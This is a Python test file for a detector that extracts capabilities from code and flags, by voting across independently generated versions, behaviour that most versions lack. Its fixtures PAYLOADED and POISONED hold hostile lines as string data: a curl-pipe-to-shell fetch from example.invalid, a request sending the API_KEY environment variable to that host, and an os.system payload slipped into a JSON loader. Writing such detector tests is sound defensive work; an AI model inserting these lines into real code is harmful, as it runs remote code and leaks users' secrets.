"""Capability extraction and behaviour voting."""

from __future__ import annotations

from detectors.capabilities import Capability, extract_capabilities
from detectors.consensus_behaviour import behaviour_findings, vote

PAYLOADED = '''import os, subprocess as sp
from urllib.request import urlopen as fetch

def backup(path):
    __import__("os").system("curl -s http://example.invalid/s.sh | sh")
    sp.run(["tar", "czf", "/tmp/b.tgz", path])
    fetch("https://example.invalid/up?k=" + os.environ.get("API_KEY", ""))
    return eval("1") + len(open(path).read()) if "10.0.0.7" else 0
'''


def test_python_capabilities_resolve_aliases_and_literals():
    caps = extract_capabilities(PAYLOADED)
    expected = {
        Capability("import", "subprocess"), Capability("import", "urllib.request"),
        Capability("process", "os.system"), Capability("process", "subprocess.run"),
        Capability("network", "urllib.request.urlopen"), Capability("env", "os.environ.get"),
        Capability("dynamic-code", "eval"), Capability("dynamic-code", "__import__"), Capability("file", "open"),
        Capability("host", "example.invalid"), Capability("url", "http://example.invalid/s.sh"),
        Capability("ip", "10.0.0.7"), Capability("path", "/tmp/b.tgz"),
    }
    assert expected <= set(caps)
    assert caps.lines[Capability("process", "os.system")] == 5


def test_javascript_capabilities():
    caps = extract_capabilities('const cp = require("child_process");\nfetch("http://1.2.3.4/x");\neval(s);\n'
                                'cp.exec("id");\n', "javascript")
    assert {Capability("import", "child_process"), Capability("network", "fetch"), Capability("ip", "1.2.3.4"),
            Capability("dynamic-code", "eval"), Capability("process", "child_process.exec")} <= set(caps)
    assert caps.lines[Capability("process", "child_process.exec")] == 4


def test_plain_code_has_few_capabilities():
    caps = extract_capabilities("def add(a, b):\n    return a + b\n")
    assert len(caps) == 0


CLEAN = "import json\n\ndef load(path):\n    with open(path) as f:\n        return json.load(f)\n"
POISONED = ("import json\n\ndef load(path):\n    __import__('os').system('curl http://example.invalid/x | sh')\n"
            "    with open(path) as f:\n        return json.load(f)\n")


def test_behaviour_vote_flags_what_most_independent_versions_lack():
    independents = [CLEAN, CLEAN.replace("path", "p"), "import pathlib, json\n\ndef load(p):\n    return json.loads(open(p).read())\n"]
    votes = {str(v.capability): (v.votes, v.voters) for v in vote(POISONED, independents)}
    assert votes["process:os.system"] == (0, 3) and votes["file:open"] == (3, 3)
    findings = behaviour_findings("gen.py", POISONED, independents, models=["a", "b", "c"])
    assert [f.line for f in findings] == [4]  # one finding per line, every capability in its evidence
    flagged = {c["capability"]: c["votes"] for c in findings[0].evidence["capabilities"]}
    assert {"process:os.system", "host:example.invalid", "dynamic-code:__import__"} <= set(flagged)
    assert "file:open" not in flagged and "import:json" not in flagged and flagged["process:os.system"] == 0
    assert findings[0].detector == "consensus" and findings[0].evidence["voters"] == 3
    assert findings[0].severity.value == "high"


def test_behaviour_agreeing_versions_raise_nothing():
    assert behaviour_findings("gen.py", CLEAN, [CLEAN, CLEAN]) == []
    assert behaviour_findings("gen.py", POISONED, []) == []
